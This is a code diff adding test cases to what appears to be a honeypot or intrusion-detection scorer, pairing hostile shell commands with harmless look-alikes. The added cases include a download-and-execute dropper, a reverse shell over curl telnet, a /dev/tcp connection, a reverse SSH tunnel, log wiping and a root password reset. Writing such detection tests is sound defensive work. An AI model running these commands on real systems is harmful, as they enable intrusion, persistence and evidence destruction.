@@ -5,6 +5,21 @@ import { ask, bytes, command, draft, fileEvent, past, request } from './events.t
 export const commandCases: Record<string, readonly [string, string]> = {
   download: ['cd /tmp; wget http://198.51.100.7/bins.sh', 'wget --version'],
   'download-and-run': ['curl -s http://198.51.100.7/x | sh', 'curl -s http://198.51.100.7/x | less'],
+  dropper: [
+    'cd /tmp; wget http://198.51.100.7/x86; chmod 777 x86; ./x86',
+    'curl -fsSL https://get.example.com | sh',
+  ],
+  'shell-over-telnet-url': [
+    'sh -i 2>&1 | curl -sN telnet://198.51.100.7:4444',
+    'curl telnet://198.51.100.7:25',
+  ],
+  'connection-from-shell': ['echo x > /dev/tcp/198.51.100.7/80', 'ls /dev/tty1'],
+  'tunnel-opened': [
+    'ssh -R 2222:localhost:22 mara@198.51.100.7',
+    'ssh -L 8080:localhost:80 mara@198.51.100.7',
+  ],
+  'journal-shortened': ['journalctl --vacuum-time=1s', 'journalctl -u nginx --since today'],
+  'password-piped': ['echo root:Ab12Cd34 | chpasswd', 'grep root /etc/passwd'],
   'made-executable': ['chmod 777 bins.sh', 'chmod 644 notes.txt'],
   'run-from-scratch-folder': ['/tmp/.x1 &', 'ls /tmp'],
   'scanner-run': ['nmap -sS -p- 198.51.100.0/24', 'apt-get remove nmap'],
@@ -160,6 +175,12 @@ export const eventCases: Record<string, readonly [ScoreInput, ScoreInput]> = {
     ask(request('GET / HTTP/1.1'), { history: past({ events: 9, first_ms: hour }) }),
   ],
   tunnel: [ask(draft('tunnel.requested', { payload: 'mail.example:25' })), ask(draft('connection.opened'))],
+  'relay-volume': [
+    ask(draft('tunnel.requested', { payload: 'mail.example:25' }), {
+      history: past({ events: 60, connections: 20 }),
+    }),
+    ask(draft('tunnel.requested', { payload: 'mail.example:25' })),
+  ],
   fingerprinting: [ask(draft('decoy.fingerprinted')), ask(draft('connection.opened'))],
   'token-hit': [ask(draft('token.hit')), ask(draft('connection.opened'))],
   'file-transfer': [ask(draft('file.uploaded', { payload: 'x.bin' })), ask(draft('connection.opened'))],
